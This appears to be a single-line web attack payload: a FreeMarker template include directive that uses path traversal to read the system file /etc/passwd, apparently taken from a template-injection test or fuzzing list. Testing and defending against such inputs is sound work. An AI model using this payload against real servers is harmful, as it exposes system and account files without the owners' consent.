<#include "/../etc/passwd">
